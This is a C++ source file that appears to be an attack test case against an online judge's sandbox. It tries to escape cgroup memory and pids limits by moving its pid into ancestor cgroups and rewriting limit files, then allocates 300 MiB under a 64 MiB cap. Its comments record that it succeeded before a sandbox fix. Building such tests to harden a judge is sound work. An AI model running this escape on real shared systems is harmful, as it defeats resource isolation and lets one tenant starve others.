/**
 * Attack (issue 12): leave the run's cgroups (or lift their limits), then use 300 MiB under
 *         a+b's 64 MiB memory limit.
 * Problem: aplusb of judge/testroot (memory-limit-mib: 64)
 * How: for every hierarchy of /proc/self/cgroup, writes its pid into cgroup.procs of each
 *   ancestor of its cgroup, nearest first (the judge's pool, then up to the root), under
 *   /sys/fs/cgroup/<controllers> (v1) and /sys/fs/cgroup{,/unified} (v2); writes -1 / max to
 *   its own memory.limit_in_bytes, memory.memsw.limit_in_bytes, memory.max and pids.max. Then
 *   maps 300 MiB (MAP_POPULATE) and writes every page.
 * Prints: a + b. Contained = MLE (never AC).
 * Status: got through the judge before the sandbox (a35ce73) as root: AC, peak 0.4 MiB; as
 *   nobody there is no cgroup to leave (the /proc poll said MLE). Contained (MLE) by the
 *   sandbox as root and as nobody.
 */
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

using namespace std;

bool write_text(const string& path, const string& text) {
    int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0) return false;
    bool ok = write(fd, text.c_str(), text.size()) == static_cast<ssize_t>(text.size());
    close(fd);
    return ok;
}

int main() {
    long long a = 0, b = 0;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;

    int moved = 0;
    string pid = to_string(getpid()) + "\n";
    if (FILE* file = fopen("/proc/self/cgroup", "r")) {
        char line[4096];
        while (fgets(line, sizeof line, file)) {
            // "id:controllers:/path"; v2 has empty controllers.
            char* first = strchr(line, ':');
            char* second = first ? strchr(first + 1, ':') : nullptr;
            if (!second) continue;
            string controllers(first + 1, second), path(second + 1);
            while (!path.empty() && (path.back() == '\n' || path.back() == '/')) path.pop_back();
            vector<string> mounts;
            if (controllers.empty()) {
                mounts = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup"};
            } else {
                if (controllers.rfind("name=", 0) == 0) controllers = controllers.substr(5);
                mounts.push_back("/sys/fs/cgroup/" + controllers);
                size_t comma = controllers.find(',');
                if (comma != string::npos)
                    mounts.push_back("/sys/fs/cgroup/" + controllers.substr(0, comma));
            }
            for (const string& mount : mounts) {
                for (const char* file_name :
                     {"memory.limit_in_bytes", "memory.memsw.limit_in_bytes", "memory.max",
                      "memory.high", "pids.max"}) {
                    const char* value = strstr(file_name, "limit") ? "-1\n" : "max\n";
                    write_text(mount + path + "/" + file_name, value);
                }
                // Nearest ancestor first: leaving the run's cgroup is enough to escape it.
                string ancestor = path;
                bool done = false;
                while (!done && !ancestor.empty()) {
                    ancestor = ancestor.substr(0, ancestor.find_last_of('/'));
                    if (write_text(mount + ancestor + "/cgroup.procs", pid) ||
                        write_text(mount + ancestor + "/cgroup.procs", "0\n")) {
                        ++moved;
                        done = true;
                    }
                }
            }
        }
        fclose(file);
    }
    fprintf(stderr, "cgroup_escape: moved to %d other cgroups\n", moved);

    // MAP_POPULATE: the kernel maps every page at once, far cheaper than 76 800 page faults
    // (which take over 1 s of CPU on a slow VM: TLE would hide the escape).
    const size_t bytes = size_t{300} << 20;
    void* mapped = mmap(nullptr, bytes, PROT_READ | PROT_WRITE,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    if (mapped == MAP_FAILED) return 3;
    volatile char* memory = static_cast<char*>(mapped);  // volatile: really written
    for (size_t i = 0; i < bytes; i += 4096) memory[i] = 1;
    long long touched = 0;
    for (size_t i = 0; i < bytes; i += 4096) touched += memory[i];
    printf("%lld\n", a + b + touched - static_cast<long long>(bytes / 4096));
}
